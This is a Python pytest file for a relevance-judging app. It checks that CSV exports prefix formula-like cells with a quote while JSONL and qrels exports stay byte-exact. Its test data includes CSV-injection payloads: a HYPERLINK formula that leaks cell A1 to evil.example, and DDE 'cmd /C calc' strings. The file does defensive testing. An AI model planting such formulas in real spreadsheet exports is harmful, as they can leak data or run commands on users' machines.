"""CSV exports never hand a spreadsheet a live formula; JSONL and qrels stay byte-exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from judging.api.renderers import csv_cell
from judging.models import Pair
from judging.services import documents_import, judgment_record, queries_import, run_import
from tests.data import body_of, client_for

# What an attacker types as a note (or smuggles in as a qid/docid) and what the CSV cell must read.
NOTES = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def hostile(campaign, lead, annotator):
    """A campaign whose qids, docids and notes start like spreadsheet formulas."""
    topics = "".join(json.dumps({"qid": qid, "text": "t"}) + "\n" for qid in ("=1+1", "q2"))
    docs = "".join(json.dumps({"docid": d, "title": d, "text": "x"}) + "\n" for d in ("@d1", "+d2", "-d3", "d4"))
    queries_import(campaign=campaign, data=topics.encode(), filename="topics.jsonl")
    documents_import(campaign=campaign, data=docs.encode(), filename="docs.jsonl")
    run = "=1+1 Q0 @d1 1 3 r\n=1+1 Q0 +d2 2 2 r\nq2 Q0 -d3 1 3 r\nq2 Q0 d4 2 2 r\n"
    run_import(campaign=campaign, data=run.encode(), filename="r.run")
    pairs = list(Pair.objects.filter(campaign=campaign).order_by("id"))
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-0.5", "a = b", "@SUM(1+1)*cmd|' /C calc'!A0"]
    for i, (pair, note) in enumerate(zip(pairs, notes, strict=True)):
        judgment_record(pair=pair, annotator=annotator, grade=i % 3, note=note)
    return campaign


def _csv_rows(client, **params):
    response = client.get("/api/judgments/", {"campaign": "demo", "format": "csv", **params})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(body_of(response).decode(), newline="")))


@pytest.mark.parametrize(("note", "cell"), NOTES.items())
def test_csv_cell_neutralizes_formula_text(note, cell):
    assert csv_cell(note) == cell


@pytest.mark.parametrize("value", ["-0.5", "+1", "-12", "1e-3", "-.5", "plain", "", "a=b", "'=already quoted"])
def test_csv_cell_leaves_plain_numbers_and_text_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-0.5, -1, 0, 2.25])
def test_csv_cell_leaves_numeric_cells_alone(value):
    """Numbers (grades, seconds spent) are written as numbers: a negative number is no formula."""
    assert csv_cell(value) == value


def test_judgments_csv_neutralizes_formulas_in_notes_qids_and_docids(hostile, lead):
    client = client_for(lead)
    # Each note in turn on one pair (notes are stored stripped, so a leading tab or CR never reaches the
    # export through a judgment; csv_cell handles them all the same, tested above).
    for note, cell in list(NOTES.items())[:4]:
        pair = Pair.objects.filter(campaign=hostile).order_by("id").first()
        judgment_record(pair=pair, annotator=hostile.memberships.get(role="annotator").user, grade=1, note=note)
        rows = _csv_rows(client)
        row = next(r for r in rows if r["pair"] == str(pair.public_id))
        assert row["note"] == cell
    rows = _csv_rows(client)
    assert {r["qid"] for r in rows} == {"'=1+1", "q2"}
    assert {r["docid"] for r in rows} == {"'@d1", "'+d2", "'-d3", "d4"}
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-0.5", (column, value)


def test_judgments_csv_keeps_a_negative_number_note_and_numeric_columns(hostile, lead):
    rows = _csv_rows(client_for(lead))
    assert "-0.5" in {r["note"] for r in rows}  # a number, not a formula: left as typed
    assert "a = b" in {r["note"] for r in rows}
    assert all(r["grade"] in {"0", "1", "2"} for r in rows)
    assert all(float(r["seconds_spent"]) >= 0 for r in rows)


def test_jsonl_export_keeps_notes_and_ids_byte_exact(hostile, lead):
    client = client_for(lead)
    body = body_of(client.get("/api/judgments/", {"campaign": "demo", "format": "jsonl"})).decode()
    records = [json.loads(line) for line in body.splitlines()]
    notes = {r["note"] for r in records}
    assert notes & set(NOTES) and not any(n.startswith("'") for n in notes)
    assert {r["qid"] for r in records} == {"=1+1", "q2"}
    assert {r["docid"] for r in records} == {"@d1", "+d2", "-d3", "d4"}
    # The raw bytes are what json.dumps writes: nothing inserted in front of a value.
    for record, line in zip(records, body.splitlines(), strict=True):
        assert line == json.dumps(record, ensure_ascii=False)


def test_qrels_export_keeps_ids_byte_exact(hostile, lead):
    body = body_of(client_for(lead).get(f"/api/campaigns/{hostile.slug}/qrels/")).decode()
    ids = {tuple(line.split()[::2][:2]) for line in body.splitlines()}
    assert ("=1+1", "@d1") in ids or ("=1+1", "+d2") in ids
    assert "'" not in body


def test_leaderboard_csv_neutralizes_formulas_in_system_names(hostile, lead):
    """A system is named by its run's tag (or the uploader): "=HYPERLINK(...)" went out as a live formula."""
    run_import(campaign=hostile, data=b"q2 Q0 d4 1 3 r\n", filename="x.run", system_name='=HYPERLINK("http://e","x")')
    run_import(campaign=hostile, data=b"q2 Q0 d4 1 3 r\n", filename="y.run", system_name="@evil")
    response = client_for(lead).get(f"/api/campaigns/{hostile.slug}/leaderboard/", {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body_of(response).decode(), newline="")))
    assert {r["system"] for r in rows} == {'\'=HYPERLINK("http://e","x")', "'@evil", "r"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
